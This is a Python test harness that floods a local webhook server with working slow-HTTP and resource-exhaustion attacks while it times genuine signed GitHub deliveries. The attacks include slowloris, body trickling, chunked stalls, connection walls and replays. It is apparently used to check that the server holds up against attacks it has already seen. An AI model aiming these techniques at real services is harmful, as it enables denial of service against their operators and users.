#!/usr/bin/python3
"""attack.py PORT SECONDS SECRET_FILE BODY_FILE ATTACK... [--deliver ADDR]
    [--deliver-xff CLIENT] [--deliver-conc N] [--deliver-plain [--deliver-delay MS]]
    [--deliver-fresh ADDRS]

Runs unauthenticated attacks on kernelbot serve at 127.0.0.1:PORT for
SECONDS while one client, from ADDR (default 127.0.0.1), sends genuinely
signed GitHub push deliveries (BODY_FILE signed with SECRET_FILE's
secret, a fresh X-GitHub-Delivery each), one at a time (N at a time
with --deliver-conc, as a forge with N in flight), from the second
second on; with --deliver-xff, with X-Forwarded-For: CLIENT, as a
reverse proxy at ADDR would send them; with --deliver-plain, each
connected first and sent after (as curl does, not in one Fast Open
write) and followed by a GET /healthz from the same address, sent the
same way; --deliver-delay, MS milliseconds between each connect and its
send (a client host that is slow to write); --deliver-fresh, each
delivery and health check from the next address of ADDRS instead of
ADDR (a client that has never delivered, so never vouched for). Each
ATTACK is KIND:ADDRS:N[:BYTES], ADDRS one address or one with ranges in
any of its parts (127.0.0.2-5), N connections spread over them,
reopened whenever the server closes one, BYTES the length their heads
declare where a kind declares one (its default below):

  slowloris  a request line, then one header line a second, never done
  crowd      connected, a request line, then nothing
  idle       connected, then nothing at all (not even a request line)
  wall       as idle, reopened at once when ended (the seventh outside
             attack's F1: about 5,000 connects a second from 300 addresses)
  fresh      as wall, each connection from the next address of ADDRS, a
             newcomer every time (ADDRS may range in any part:
             127.100-199.0-255.1-254; the ninth outside attack: 400 at
             once, each reconnect from a new address); fresh-KIND is KIND
             so, its connections reopened at once when ended
  finhead    a request line and a part of a header line, then a close
             (FIN), nothing kept: N such connects each fill (50 a
             second; the eleventh outside attack: its slot was held to the
             head deadline, 26 connects a second kept every slot full)
  bytewise   a request line, Host, then a header line one byte a segment
             (TCP_NODELAY), each connection in turn, as fast as it goes,
             reopened at once when ended (the tenth outside attack: 5 from
             one address; each peek of such a head walked the socket's
             queue once per segment)
  pause      connected, 50 ms later a whole bad-signature request (head and
             2-byte body), its answer read, reopened at once (the eighth
             outside attack: curl's pattern, from 1,000 addresses)
  line       the request line one byte a second, never done
  bodies     a whole head declaring a 25 MiB body, then 2 KiB a second; a
             quick 503 halves what the next one declares (down to 1 KiB), to
             fill a budget reserved from Content-Length exactly
  stall      a whole head declaring a 25 MiB body, 20 MiB at once, then nothing
  big        a whole head declaring a 25 MiB body and all of it as fast as
             the server takes it (a bad signature: 401 once it is in),
             reopened at once when answered (the tenth outside attack's
             M1: 24 at a time)
  replay     N threads sending one captured, genuinely signed push again
             and again, each time under a fresh delivery id, as fast as
             the server answers (every answer should be 200 duplicate)
  young      a whole head declaring a 1 MB body, no body bytes, reset after
             0.8 s and reopened at once (so no body ever gets a second old)
  halfbody   a whole head declaring a 2-byte body and 1 byte of it, then
             nothing (on course by its average until the minimum-rate
             deadline ends it), reopened at once
  halfbig    a whole head declaring an 8 KiB body and half of it in the same
             write, then nothing (faster than a forge's rate for its first
             125 ms by its average), reopened at once (the twelfth outside
             attack, open-loop from 6,000 new addresses a second)
  halfchunk  a whole head with Transfer-Encoding: chunked, then a chunk's
             size line (BYTES, default 64 KiB) and half of the chunk in the
             same write, then nothing (no length to be short of; proven by
             its rate for seconds), reopened at once (the thirteenth
             outside attack on the intake, 300 connects a second)
  chunktrickle a whole head with Transfer-Encoding: chunked, a chunk's size
             line (BYTES, default 1 MiB) and 60 KB of it in the same write,
             then a byte of it every 3 ms (never 50 ms without one), on
             ADDRS one each, reopened at once when ended (the fifteenth
             outside attack on the intake: 260 addresses at 5-7 MB/s kept
             3-37% of a vouched forge's deliveries out)
  knock      a whole bad-signature request (head and 2-byte body) in one
             write, read its answer, reopened at once (a newcomer every few
             milliseconds while the server is full)
  oncourse   a whole head declaring a 6000-byte body and its first 256 bytes,
             then the rest at 1300 B/s (on course to end 4.4 s after its
             head, inside the 5 s a full server allows), reopened at once
             when it ends
  proxied    as bodies, with X-Forwarded-For naming one of 4 clients
             (10.9.0.1-4, in turn), as a reverse proxy at ADDRS that streams
             bodies would send them; BYTES default 200000
  surge      a whole head declaring a 24 MiB body, 7/8 of it as fast as the
             server takes it, then 2 KiB a second: on course to end within
             the 5 s a full server allows for its first 4.3 s (the third
             outside attack's F3, from 12 addresses); closed at its answer
             and reopened at once, on the same address. With a BYTES of
             10 KiB to 64 KiB, each is on course until it ends: small
             bodies that fill what large ones leave of the memory
  trickle    a whole head declaring a 10-byte body and its first byte, then
             one byte every 0.4 s (2.5 B/s: on course to end 3.6 s after
             its head, never
             0.5 s without a byte), reopened at once when it ends (the sixth
             outside attack's F1, from 260 addresses)

Prints one line per attack and one for the deliveries:

  ATTACK KIND opened=N closed_by_server=N alive_at_2s=N held_at_2s=N peak=N longest_s=F
  ATTACK replay sent=N codes=200:N,...
  DELIVER sent=N accepted=N codes=202:N,... p50_ms=F p99_ms=F max_ms=F
  HEALTH sent=N ok=N codes=200:N,...            (with --deliver-plain)

(held_at_2s: of those open 2 s in, the ones open for 1 s already;
longest_s: the longest a connection stayed open, closed or not), and writes the accepted delivery ids, one per line, to ids.txt in the
current directory. Every wait is bounded; nothing here needs root.
"""
import errno
import hashlib
import hmac
import itertools
import json
import re
import selectors
import socket
import struct
import sys
import threading
import time

MIB = 1 << 20


class Addrs:
    """The addresses of a spec: each of its four parts a number or a range
    (127.0.0.2-5; 127.100-199.0-255.1-254), in order, the last part
    fastest; indexed without listing them."""

    def __init__(self, spec):
        self.parts = []
        for p in spec.split("."):
            lo, _, hi = p.partition("-")
            self.parts.append((int(lo), int(hi or lo)))
        self.n = 1
        for lo, hi in self.parts:
            self.n *= hi - lo + 1

    def __len__(self):
        return self.n

    def __getitem__(self, i):
        out = []
        for lo, hi in reversed(self.parts):
            i, r = divmod(i, hi - lo + 1)
            out.append(str(lo + r))
        return ".".join(reversed(out))


class Attack:
    HEAD = (b"POST /webhooks/github HTTP/1.1\r\nHost: x\r\n"
            b"Content-Type: application/json\r\nX-GitHub-Event: push\r\n"
            b"X-GitHub-Delivery: fake-%d\r\nX-Hub-Signature-256: sha256=00\r\n"
            b"Content-Length: %d\r\n\r\n")

    def __init__(self, kind, addrs, n, port, sel, declare=None):
        self.name = kind
        # fresh-KIND: KIND, each connection from the next address of ADDRS.
        self.fresh = kind == "fresh" or kind.startswith("fresh-")
        kind = {"fresh": "wall"}.get(kind, kind[6:] if self.fresh else kind)
        self.kind, self.addrs, self.n, self.port, self.sel = kind, addrs, n, port, sel
        self.opened = self.closed = self.peak = 0
        self.alive_at_2s = self.held_at_2s = None
        self.next_fill = 0.0
        self.declare = declare or {"young": 1000000, "oncourse": 6000, "halfbody": 2,
                                   "halfbig": 8192, "halfchunk": 65536, "chunktrickle": MIB,
                                   "knock": 2, "surge": 24 * MIB, "trickle": 10,
                                   "proxied": 200000}.get(kind, 25 * MIB - 1024)
        self.longest = 0.0
        self.live = {}      # socket -> [opened at, last send, bytes sent, slot]
        self.seq = 0

    def open_one(self, i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        # A knocker, and a fresh one, comes from the next address each
        # time, a newcomer.
        s.bind((self.addrs[(self.seq if self.fresh or self.kind == "knock" else i)
                           % len(self.addrs)], 0))
        s.settimeout(5)
        try:
            s.connect(("127.0.0.1", self.port))
        except OSError:
            s.close()
            return
        s.setblocking(False)
        self.seq += 1
        try:
            if self.kind in ("slowloris", "crowd"):
                s.send(b"POST /webhooks/github HTTP/1.1\r\n")
            elif self.kind == "line":
                s.send(b"P")
            elif self.kind == "oncourse":
                s.send(self.HEAD % (self.seq, self.declare) + b" " * 256)
            elif self.kind == "trickle":
                s.send(self.HEAD % (self.seq, self.declare) + b" ")
            elif self.kind == "halfbody":
                s.send(self.HEAD % (self.seq, self.declare) + b"{")
            elif self.kind == "halfbig":
                s.send(self.HEAD % (self.seq, self.declare) + b" " * (self.declare // 2))
            elif self.kind == "halfchunk":
                head = (self.HEAD % (self.seq, 0)).replace(b"Content-Length: 0",
                                                           b"Transfer-Encoding: chunked")
                s.send(head + b"%x\r\n" % self.declare + b" " * (self.declare // 2))
            elif self.kind == "chunktrickle":
                head = (self.HEAD % (self.seq, 0)).replace(b"Content-Length: 0",
                                                           b"Transfer-Encoding: chunked")
                s.send(head + b"%x\r\n" % self.declare + b" " * 60000)
            elif self.kind == "knock":
                s.send(self.HEAD % (self.seq, self.declare) + b"{}")
            elif self.kind == "finhead":
                s.send(b"GET /healthz HTTP/1.1\r\nHost")
                s.close()   # the head can never be whole; nothing kept
                self.opened += 1
                return
            elif self.kind == "bytewise":
                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                s.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Pad: ")
            elif self.kind == "proxied":
                s.send((self.HEAD % (self.seq, self.declare)).replace(
                    b"Host: x\r\n", b"Host: x\r\nX-Forwarded-For: 10.9.0.%d\r\n" % (1 + i % 4)))
            elif self.kind not in ("idle", "wall", "pause", "bytewise"):
                s.send(self.HEAD % (self.seq, self.declare))
        except OSError:
            pass
        now = time.monotonic()
        self.live[s] = [now, now, {"line": 1, "oncourse": 256, "trickle": 1}.get(self.kind, 0), i]
        self.opened += 1
        self.sel.register(s, selectors.EVENT_READ, self)

    def fill(self):
        # Reopened 5 times a second at most (young, oncourse, halfbody, knock: 50), so a refused socket is
        # not a busy loop.
        if time.monotonic() < self.next_fill:
            return
        self.next_fill = time.monotonic() + (0.02 if self.fresh or self.kind in ("young", "oncourse", "halfbody", "halfbig", "halfchunk",
                                                                   "knock", "trickle", "wall",
                                                                   "pause", "bytewise",
                                                                   "finhead")
                                             else 0.2)
        i = 0
        while len(self.live) < self.n and i < self.n:
            # A surge reopens the connection it lost, on the same address.
            used = {st[3] for st in self.live.values()} if self.kind == "surge" else ()
            self.open_one(min(set(range(self.n)) - set(used)) if used else len(self.live))
            i += 1
        self.peak = max(self.peak, len(self.live))

    def gone(self, s, by_server=True):
        t0 = self.live.pop(s)[0]
        self.longest = max(self.longest, time.monotonic() - t0)
        self.closed += by_server
        self.sel.unregister(s)
        s.close()

    def readable(self, s):
        try:
            d = s.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            d = b""
        if not d or self.kind in ("surge", "trickle", "pause", "big", "chunktrickle"):
            i = self.live[s][3]
            self.gone(s)
            if self.fresh or self.kind in ("wall", "pause", "bytewise", "big", "chunktrickle"):
                self.open_one(i)	# at once, not at the next fill
        elif (self.kind == "bodies" and d.startswith(b"HTTP/1.1 503 ")
              and time.monotonic() - self.live[s][0] < 1):
            self.declare = max(1024, self.declare // 2)

    def tick(self):
        now = time.monotonic()
        if self.kind == "bytewise":
            # One byte a segment on each connection in turn, many rounds a tick.
            for _ in range(64):
                for s in list(self.live):
                    try:
                        s.send(b"a")
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.gone(s)
            return
        for s, st in list(self.live.items()):
            try:
                if self.kind == "line" and now - st[1] >= 1:
                    line = b"POST /webhooks/github HTTP/1.1"
                    s.send(line[st[2] % len(line):][:1])
                    st[1], st[2] = now, st[2] + 1
                elif self.kind == "slowloris" and now - st[1] >= 1:
                    s.send(b"X-Slow-%d: y\r\n" % int(now * 1000))
                    st[1] = now
                elif self.kind in ("bodies", "proxied") and now - st[1] >= 0.25:
                    s.send(b" " * 512)
                    st[1] = now
                elif self.kind == "oncourse" and st[2] < self.declare:
                    want = min(self.declare, 256 + int(1300 * (now - st[0])))
                    if want > st[2]:
                        st[2] += s.send(b" " * (want - st[2]))
                elif self.kind == "pause" and not st[2] and now - st[0] >= 0.05:
                    s.send(self.HEAD % (self.seq, 2) + b"{}")
                    st[2] = 1
                elif self.kind == "chunktrickle" and now - st[1] >= 0.003:
                    s.send(b" ")
                    st[1] = now
                elif self.kind == "trickle" and st[2] < self.declare and now - st[1] >= 0.4:
                    st[2] += s.send(b" ")
                    st[1] = now
                elif self.kind == "stall" and st[2] < 20 * MIB:
                    st[2] += s.send(b" " * min(MIB, 20 * MIB - st[2]))
                elif self.kind == "big" and st[2] < self.declare:
                    st[2] += s.send(b" " * min(MIB, self.declare - st[2]))
                elif self.kind == "surge" and st[2] < self.declare * 7 // 8:
                    st[2] += s.send(b" " * min(MIB, self.declare * 7 // 8 - st[2]))
                    st[1] = now
                elif self.kind == "surge" and st[2] < self.declare and now - st[1] >= 0.25:
                    st[2] += s.send(b" " * 512)
                    st[1] = now
                elif self.kind == "young" and now - st[0] >= 0.8:
                    # Reset (RST, not FIN), as the attack did.
                    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                 struct.pack("ii", 1, 0))
                    self.gone(s, False)
            except BlockingIOError:
                pass
            except OSError:
                self.gone(s)


def push(port, addr, body, did, sig, xff=None, plain=False, req=None, delay=0.0):
    """POST a GitHub push delivery from addr (for client xff, through a
    proxy at addr): the status as text, or the name of the error that
    ended it.

    The request goes as a forge's does, right behind the handshake: one
    sendto() with MSG_FASTOPEN connects and sends in the kernel, so no
    pause of this process between connect and send (another thread
    holding the interpreter, a busy host's scheduler) shows the server a
    bare connection where a forge's request would already be in.
    Without TCP Fast Open on the client side, or plain: connect then
    send. req: another request to send the same way."""
    xffh = "X-Forwarded-For: %s\r\n" % xff if xff else ""
    req = req or ("POST /webhooks/github HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
                  "Content-Type: application/json\r\nX-GitHub-Event: push\r\n"
                  "X-GitHub-Delivery: %s\r\nX-Hub-Signature-256: %s\r\n%s"
                  "Content-Length: %d\r\nConnection: close\r\n\r\n"
                  % (port, did, sig, xffh, len(body))).encode() + body
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((addr, 0))
        # Blocking (a timeout makes the socket non-blocking underneath,
        # and a Fast Open sendto() on one stops at EINPROGRESS); the
        # kernel's send timeout bounds the connect.
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 15, 0))
        n = None
        if not plain:
            try:
                n = s.sendto(req, socket.MSG_FASTOPEN, ("127.0.0.1", port))
            except OSError as e:
                if e.errno not in (errno.EOPNOTSUPP, errno.EINVAL):
                    raise
        if n is None:
            s.connect(("127.0.0.1", port))
            n = 0
            time.sleep(delay)
        s.settimeout(15)
        s.sendall(req[n:])
        got = b""
        while b"\r\n\r\n" not in got:
            more = s.recv(65536)
            if not more:
                return "EmptyReply" if not got else "ShortReply"
            got += more
        head, rest = got.split(b"\r\n\r\n", 1)
        status = head.split(b"\r\n", 1)[0].split()
        if len(status) < 2 or not status[0].startswith(b"HTTP/") or not status[1].isdigit():
            return "BadStatusLine"
        m = re.search(rb"(?im)^content-length:\s*(\d+)\s*$", head)
        want = int(m.group(1)) if m else None
        while want is None or len(rest) < want:
            more = s.recv(65536)
            if not more:
                break
            rest += more
        return status[1].decode()
    except OSError as e:
        return type(e).__name__
    finally:
        s.close()


class Deliverer(threading.Thread):
    def __init__(self, port, addr, secret, body, until, xff=None, tag="", plain=False, delay=0.0,
                 fresh=None):
        super().__init__(daemon=True)
        self.fresh = fresh  # (Addrs, shared counter): each push from a new address
        self.port, self.addr, self.secret, self.body, self.until = port, addr, secret, body, until
        self.xff, self.tag, self.plain, self.delay = xff, tag, plain, delay
        self.lat, self.codes, self.ids, self.health = [], {}, [], {}

    def run(self):
        # Each push names a commit of its own: the same one again is a
        # replay, answered 200 duplicate (issue 23's replay rule).
        after = json.loads(self.body)["after"].encode()
        n = 0
        while time.monotonic() < self.until:
            n += 1
            did = "real-%s%d-%d" % (self.tag, int(time.time()), n)
            body = self.body.replace(after, hashlib.sha1(did.encode()).hexdigest().encode())
            sig = "sha256=" + hmac.new(self.secret, body, hashlib.sha256).hexdigest()
            if self.fresh:
                self.addr = self.fresh[0][next(self.fresh[1]) % len(self.fresh[0])]
            t0 = time.monotonic()
            code = push(self.port, self.addr, body, did, sig, self.xff, self.plain,
                        delay=self.delay)
            self.lat.append(time.monotonic() - t0)
            self.codes[code] = self.codes.get(code, 0) + 1
            if code == "202":
                self.ids.append(did)
            if self.plain:
                if self.fresh:
                    self.addr = self.fresh[0][next(self.fresh[1]) % len(self.fresh[0])]
                code = push(self.port, self.addr, b"", "", "", plain=True, req=(
                    b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
                    delay=self.delay)
                self.health[code] = self.health.get(code, 0) + 1
            time.sleep(0.2)


class Replayer(threading.Thread):
    """One captured delivery (its own fixed commit, signed once) sent
    again and again under fresh delivery ids from addr."""

    def __init__(self, port, addr, secret, body, until, tag):
        super().__init__(daemon=True)
        self.port, self.addr, self.until, self.tag = port, addr, until, tag
        self.body = body
        self.sig = "sha256=" + hmac.new(secret, body, hashlib.sha256).hexdigest()
        self.codes = {}

    def run(self):
        n = 0
        while time.monotonic() < self.until:
            n += 1
            code = push(self.port, self.addr, self.body, "replay-%s-%d" % (self.tag, n), self.sig)
            if not code.isdigit():
                time.sleep(0.05)
            self.codes[code] = self.codes.get(code, 0) + 1


def pct(xs, p):
    if not xs:
        return 0.0
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(p / 100.0 * len(xs)))]


def main(argv):
    if len(argv) < 5:
        sys.exit(__doc__)
    port, secs = int(argv[1]), float(argv[2])
    secret = open(argv[3], "rb").read().rstrip()
    body = open(argv[4], "rb").read()
    deliver_from, deliver_xff, deliver_conc, plain, delay, specs = "127.0.0.1", None, 1, False, 0.0, []
    fresh = None
    rest = argv[5:]
    while rest:
        a = rest.pop(0)
        if a == "--deliver":
            deliver_from = rest.pop(0)
        elif a == "--deliver-xff":
            deliver_xff = rest.pop(0)
        elif a == "--deliver-conc":
            deliver_conc = int(rest.pop(0))
        elif a == "--deliver-plain":
            plain = True
        elif a == "--deliver-delay":
            delay = float(rest.pop(0)) / 1000
        elif a == "--deliver-fresh":
            fresh = (Addrs(rest.pop(0)), itertools.count())
        else:
            specs.append(a)
    sel = selectors.DefaultSelector()
    attacks, replayers = [], []
    start = time.monotonic()
    for spec in specs:
        kind, addrs, n = spec.split(":")[:3]
        declare = int(spec.split(":")[3]) if spec.count(":") >= 3 else None
        if kind == "replay":
            ads = Addrs(addrs)
            replayers += [Replayer(port, ads[i % len(ads)], secret, body, start + secs,
                                   "%d-%d" % (int(time.time()), i)) for i in range(int(n))]
        else:
            attacks.append(Attack(kind, Addrs(addrs), int(n), port, sel, declare))
    for r in replayers:
        r.start()
    ds = [Deliverer(port, deliver_from, secret, body, start + secs, deliver_xff, "%d-" % i, plain,
                    delay, fresh) for i in range(deliver_conc)]
    started = False
    busy = any(a.kind in ("bytewise", "chunktrickle") for a in attacks)
    while time.monotonic() - start < secs:
        for a in attacks:
            a.fill()
        for key, _ in sel.select(0 if busy else 0.05):
            key.data.readable(key.fileobj)
        for a in attacks:
            a.tick()
            if a.alive_at_2s is None and time.monotonic() - start >= 2:
                now = time.monotonic()
                a.alive_at_2s = len(a.live)
                a.held_at_2s = sum(1 for st in a.live.values() if now - st[0] >= 1)
        if not started and time.monotonic() - start >= 1:
            for d in ds:
                d.start()
            started = True
    for d in ds:
        d.join(20)
    d = ds[0]
    for o in ds[1:]:
        d.lat += o.lat
        d.ids += o.ids
        for k, v in o.codes.items():
            d.codes[k] = d.codes.get(k, 0) + v
        for k, v in o.health.items():
            d.health[k] = d.health.get(k, 0) + v
    now = time.monotonic()
    for a in attacks:
        for st in a.live.values():  # still open: as old as they are now
            a.longest = max(a.longest, now - st[0])
        print("ATTACK %s opened=%d closed_by_server=%d alive_at_2s=%d held_at_2s=%d "
              "peak=%d longest_s=%.1f" % (a.name, a.opened, a.closed, a.alive_at_2s or 0,
                                          a.held_at_2s or 0, a.peak, a.longest))
    if replayers:
        codes = {}
        for r in replayers:
            r.join(20)
            for k, v in r.codes.items():
                codes[k] = codes.get(k, 0) + v
        print("ATTACK replay sent=%d codes=%s" % (sum(codes.values()), ",".join(
            "%s:%d" % kv for kv in sorted(codes.items()))))
    print("DELIVER sent=%d accepted=%d codes=%s p50_ms=%.0f p99_ms=%.0f max_ms=%.0f"
          % (len(d.lat), d.codes.get("202", 0),
             ",".join("%s:%d" % kv for kv in sorted(d.codes.items())),
             pct(d.lat, 50) * 1000, pct(d.lat, 99) * 1000, max(d.lat or [0]) * 1000))
    if plain:
        print("HEALTH sent=%d ok=%d codes=%s" % (sum(d.health.values()), d.health.get("200", 0),
                                                ",".join("%s:%d" % kv for kv in sorted(d.health.items()))))
    with open("ids.txt", "w") as f:
        f.write("".join(i + "\n" for i in d.ids))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
